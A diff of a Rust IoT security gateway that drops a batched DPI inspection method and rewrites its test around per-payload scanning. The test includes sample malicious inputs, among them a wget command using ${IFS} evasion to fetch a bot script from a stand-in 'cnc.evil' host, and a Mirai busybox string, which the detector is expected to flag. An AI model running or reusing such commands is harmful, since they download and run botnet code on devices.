@@ -253,9 +253,9 @@ pub struct XlfGateway {
     vetter: UpdateVetter,
     /// Per-device DPI middleboxes (bound to per-device session secrets).
     dpi: BTreeMap<String, (EncryptedDpi, Tokenizer)>,
-    /// Token streams reused by every DPI scan, so tokenizing a payload
-    /// allocates nothing once the buffers have grown.
-    token_scratch: Vec<Vec<Token>>,
+    /// Token stream reused by every DPI scan, so tokenizing a payload
+    /// allocates nothing once the buffer has grown.
+    token_scratch: Vec<Token>,
     /// The §IV-A1 authentication delegation proxy; its token lifetime is
     /// steered by the Core's correlation results.
     pub auth_proxy: DelegationProxy,
@@ -362,50 +362,12 @@ impl XlfGateway {
         if !self.config.dpi || payload.is_empty() {
             return false;
         }
-        let mut streams = std::mem::take(&mut self.token_scratch);
-        if streams.is_empty() {
-            streams.push(Vec::new());
-        }
+        let mut tokens = std::mem::take(&mut self.token_scratch);
         let (middlebox, tokenizer) = self.dpi_for(device);
-        tokenizer.tokenize_into(payload, &mut streams[0]);
-        let hit = !middlebox.inspect(device, &streams[0], now).is_empty();
-        self.token_scratch = streams;
+        tokenizer.tokenize_into(payload, &mut tokens);
+        let hit = !middlebox.inspect(device, &tokens, now).is_empty();
+        self.token_scratch = tokens;
         hit
-    }
-
-    /// Batched DPI entry point: tokenizes and inspects a burst of payloads
-    /// from one device in a single middlebox pass (session bound once,
-    /// token and match scratch reused across payloads). Returns, per
-    /// payload, whether any rule matched — exactly what [`scan_payload`]
-    /// would have answered for each, with identical evidence and counters.
-    /// Empty payloads are skipped, as in the per-packet path.
-    ///
-    /// [`scan_payload`]: XlfGateway::scan_payload
-    pub fn inspect_batch(&mut self, device: &str, payloads: &[&[u8]], now: SimTime) -> Vec<bool> {
-        if !self.config.dpi || payloads.is_empty() {
-            return vec![false; payloads.len()];
-        }
-        let scanned: Vec<usize> = payloads
-            .iter()
-            .enumerate()
-            .filter(|(_, p)| !p.is_empty())
-            .map(|(i, _)| i)
-            .collect();
-        let mut streams = std::mem::take(&mut self.token_scratch);
-        if streams.len() < scanned.len() {
-            streams.resize_with(scanned.len(), Vec::new);
-        }
-        let (middlebox, tokenizer) = self.dpi_for(device);
-        for (&i, stream) in scanned.iter().zip(streams.iter_mut()) {
-            tokenizer.tokenize_into(payloads[i], stream);
-        }
-        let matches = middlebox.inspect_batch(device, &streams[..scanned.len()], now);
-        self.token_scratch = streams;
-        let mut out = vec![false; payloads.len()];
-        for (&i, m) in scanned.iter().zip(&matches) {
-            out[i] = !m.is_empty();
-        }
-        out
     }
 
     fn device_name_of(&self, node: NodeId) -> Option<String> {
@@ -1177,17 +1139,20 @@ mod tests {
     }
 
     #[test]
-    fn gateway_batch_inspection_flags_malicious_payloads() {
+    fn gateway_scan_payload_flags_malicious_payloads() {
         let mut home = basic_home(XlfConfig::full());
         home.net.run_until(SimTime::from_secs(5));
         let gateway = home.net.node_as_mut::<XlfGateway>(home.gateway).unwrap();
-        let payloads: Vec<&[u8]> = vec![
+        let payloads: [&[u8]; 4] = [
             b"benign telemetry",
             b"wget${IFS}http://cnc.evil/bot.sh",
             b"",
             b"/bin/busybox MIRAI",
         ];
-        let flags = gateway.inspect_batch("cam", &payloads, SimTime::from_secs(5));
+        let flags: Vec<bool> = payloads
+            .iter()
+            .map(|p| gateway.scan_payload("cam", p, SimTime::from_secs(5)))
+            .collect();
         assert_eq!(flags, vec![false, true, false, true]);
     }
 
